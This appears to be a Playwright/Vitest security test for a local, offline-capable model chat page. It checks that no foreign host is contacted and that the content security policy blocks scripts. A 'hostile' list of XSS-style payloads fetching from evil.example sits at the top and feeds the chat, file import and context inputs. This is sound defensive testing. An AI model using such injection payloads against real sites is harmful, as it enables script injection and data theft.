import { readFileSync } from "node:fs";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { launchChromium, newPage, type Watched } from "../browser/chromium.ts";
import { type RecordingProxy, startRecordingProxy } from "../faults/recording-proxy.ts";
import { articles, ask, beginRenaming, serveSite, untilIdle, untilReady } from "./site.ts";

/** What a model, an imported file or a passage might say to reach the network or to run. */
const hostile = [
  "<script>fetch('https://evil.example/script')</script>",
  "<img src=https://evil.example/image onerror=\"fetch('https://evil.example/error')\">",
  "![picture](https://evil.example/markdown-image)",
  "[link](javascript:fetch('https://evil.example/link'))",
  "<https://evil.example/autolink>",
  "$\\includegraphics{https://evil.example/maths} \\href{javascript:alert(1)}{x}$",
  "```html\n<iframe src=https://evil.example/frame></iframe>\n```",
  "<svg onload=\"fetch('https://evil.example/svg')\">",
  "<link rel=stylesheet href=https://evil.example/style>",
].join("\n\n");

/** Asked by Chromium itself, with an empty page too. */
const browsersOwn: ReadonlySet<string> = new Set([
  "accounts.google.com",
  "clients2.google.com",
  "content-autofill.googleapis.com",
  "optimizationguide-pa.googleapis.com",
  "redirector.gvt1.com",
  "safebrowsingohttpgateway.googleapis.com",
  "update.googleapis.com",
  "www.google.com",
]);

/** Opens and uses, one after another, what a reader can; leaves the page as it was. */
async function everyPart(page: Page): Promise<void> {
  const dialog = page.getByRole("dialog");
  const close = async () => {
    await page.keyboard.press("Escape");
    await dialog.waitFor({ state: "detached" });
  };
  for (const name of [/^Models/, /^Settings/, /Back up|Export, import/, /^About this page/]) {
    await page.getByRole("button", { name }).first().click();
    await dialog.waitFor();
    if (name.test("About this page")) {
      await dialog.getByRole("button", { name: "Measure the speed" }).click();
      await dialog
        .getByText(/tokens a second|tokens\/s/)
        .first()
        .waitFor({ timeout: 60_000 });
    }
    if (name.test("Export, import")) {
      const download = page.waitForEvent("download");
      await dialog.getByRole("button", { name: /^Export \d/ }).click();
      const saved = readFileSync(await (await download).path());
      const mimeType = "application/json";
      await dialog.getByLabel("Pick files").setInputFiles([
        { name: "saved.json", mimeType, buffer: saved },
        { name: "hostile.json", mimeType, buffer: Buffer.from(hostile) },
      ]);
      await dialog
        .getByText(/could not be read/)
        .first()
        .waitFor();
    }
    await close();
  }
  for (const keys of ["Control+k", "?"]) {
    await page.getByRole("button", { name: "Settings" }).focus();
    await page.keyboard.press(keys);
    await dialog.waitFor();
    await close();
  }
  await page.getByRole("searchbox", { name: "Search" }).fill("France");
  await page.getByText(/^Found in \d/).waitFor();
  await page.getByRole("searchbox", { name: "Search" }).fill("");
  await page.getByRole("button", { name: "Look inside" }).last().click();
  await page.getByRole("option").first().waitFor();
  await close();
  await page.getByRole("button", { name: "Regenerate" }).last().click();
  await untilIdle(page);
  await page.getByRole("button", { name: "Add a passage" }).click();
  await page.getByRole("textbox", { name: "Context" }).fill(hostile);
  await page.getByRole("button", { name: "Leave the passage out" }).click();
}

describe("everything the page does, seen from the network", () => {
  let proxy: RecordingProxy;
  let site: Awaited<ReturnType<typeof serveSite>>;
  let browser: Awaited<ReturnType<typeof launchChromium>>;
  let open: Watched;
  beforeAll(async () => {
    site = await serveSite();
    proxy = await startRecordingProxy(site.port);
    browser = await launchChromium(proxy.flags);
    open = await newPage(await browser.newContext());
    await open.page.goto(`${site.url}?device=wasm`);
    await untilReady(open.page);
  });
  afterAll(async () => {
    await browser?.close();
    await proxy?.stop();
    await site?.stop();
  });

  // Also what a test left open that did not come to its end.
  beforeEach(async () => {
    const dialog = open.page.getByRole("dialog").first();
    while (await dialog.isVisible()) await open.page.keyboard.press("Escape");
  });

  const foreign = () =>
    proxy.hosts.filter((host) => host !== `localhost:${site.port}` && !browsersOwn.has(host.replace(/:443$/, "")));

  it("[X9] asks no other host for anything, whatever the reader, the model or a text says", async () => {
    const { page } = open;
    await ask(page, "What is the capital of France?");
    await ask(page, hostile);
    await page.getByRole("button", { name: "Correct the answer" }).last().click();
    const box = page.getByRole("textbox").filter({ hasNot: page.locator("[placeholder]") });
    await box.last().fill(hostile);
    await page.keyboard.press("Control+Enter");
    await page.getByText("evil.example/script").last().waitFor();
    await beginRenaming(page);
    await page.keyboard.press("Escape");
    await everyPart(page);
    await page.reload();
    await untilReady(page);
    await articles(page).last().waitFor();
    expect(await page.locator("script[src*='evil'], img[src*='evil'], iframe, link[href*='evil']").count()).toBe(0);
    expect(proxy.hosts.length).toBeGreaterThan(5);
    expect(foreign()).toEqual([]);
    expect(open.troubles).toEqual([]);
  });

  it("[X9] makes nothing of text that is not meant as markup, and starts no foreign script", async () => {
    const { page } = open;
    const tried = await page.evaluate(async (own) => {
      await new Promise((done) => setTimeout(done)); // the debugger may do in its first moment what the page may not
      const attempt = (what: () => unknown) => {
        try {
          what();
          return "done";
        } catch (error) {
          return (error as Error).name;
        }
      };
      const element = document.createElement("div");
      return {
        markup: attempt(() => {
          element.innerHTML = "<b>x</b>";
        }),
        code: attempt(() => Function("return 1")()),
        foreignWorker: attempt(() => new Worker("https://evil.example/worker.js")),
        blobWorker: attempt(() => new Worker(URL.createObjectURL(new Blob(["1"])))),
        foreignScript: attempt(() => {
          document.createElement("script").src = "https://evil.example/script.js";
        }),
        ownScript: attempt(() => new Worker(new URL("service-worker.js", own)).terminate()),
      };
    }, site.url);
    expect(tried).toMatchObject({
      markup: "TypeError",
      code: "EvalError",
      foreignWorker: "TypeError",
      foreignScript: "TypeError",
    });
    expect(tried.ownScript).toBe("done");
    const fetched = page.evaluate(() => fetch("https://evil.example/fetch").then(() => "done"));
    await expect(fetched).rejects.toThrow();
    const refused = await page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          addEventListener("securitypolicyviolation", ({ blockedURI }) => resolve(blockedURI));
          navigator.sendBeacon("https://evil.example/beacon", "x");
        }),
    );
    expect(refused).toBe("https://evil.example/beacon");
    expect(foreign()).toEqual([]);
  });

  it("[X11] shows the licence of every package that it is made of", async () => {
    const { page } = open;
    await page.getByRole("button", { name: /^Models/ }).click();
    const opened = page.waitForEvent("popup");
    await page.getByRole("link", { name: /Licences/ }).click();
    const licences = await opened;
    await licences.waitForLoadState(); // the whole of it
    const text = await licences.locator("body").innerText();
    const { dependencies } = JSON.parse(readFileSync("package.json", "utf8"));
    for (const name of Object.keys(dependencies)) expect(text).toContain(`${name} `);
    expect(text).toMatch(/Permission is hereby granted/);
    await licences.close();
  });

  it("[X12] stays offline where the reader wants it to, over reloads, and says why a model does not come", async () => {
    const { page } = open;
    const settings = page.getByRole("dialog", { name: "Settings" });
    const toggle = async () => {
      await page.getByRole("button", { name: "Settings" }).click();
      await settings.getByRole("switch", { name: "Stay offline" }).click();
      await page.keyboard.press("Escape");
    };
    await page.getByText("Works offline now").first().waitFor();
    await toggle();
    await page.getByText("Stays offline").first().waitFor();
    const asked = () => [...foreign(), ...proxy.ownPaths.filter((path) => path !== "/service-worker.js")];
    const before = asked();

    for (const visit of [1, 2]) {
      await page.reload();
      await untilReady(page);
      await page.getByText("Stays offline").first().waitFor();
      expect((await ask(page, `What is the capital of France? ${visit}`)).length).toBeGreaterThan(3);
    }
    expect(await page.evaluate(() => fetch("not-kept.txt").then(({ status }) => status))).toBe(403);
    await page.getByRole("button", { name: /^Models/ }).click();
    const panel = page.getByRole("dialog", { name: "Models" });
    await panel.getByText(/stays offline, as chosen in the settings, so no model can be fetched/).waitFor();
    await panel.getByRole("button", { name: /Dolly 3B/ }).click();
    await panel.getByText(/stays offline, as chosen in the settings, so nothing is fetched/).waitFor();
    await panel.getByRole("button", { name: "Not now" }).click();
    await page.keyboard.press("Escape");
    expect(asked()).toEqual(before);

    await toggle();
    await page.getByText("Works offline now").first().waitFor();
    expect(await page.evaluate(() => fetch("not-kept.txt").then(({ status }) => status))).toBe(404);
    open.troubles.length = 0; // the browser notes each of these statuses
  });

  it("[X9] reaches a model's host only when the reader looks there for one", async () => {
    const { page } = open;
    await page.getByRole("button", { name: /^Models/ }).click();
    await page
      .getByRole("button", { name: /Dolly 3B/ })
      .first()
      .click();
    await expect.poll(() => foreign().length).toBeGreaterThan(0);
    expect(new Set(foreign())).toEqual(new Set(["huggingface.co:443"]));
  });
});
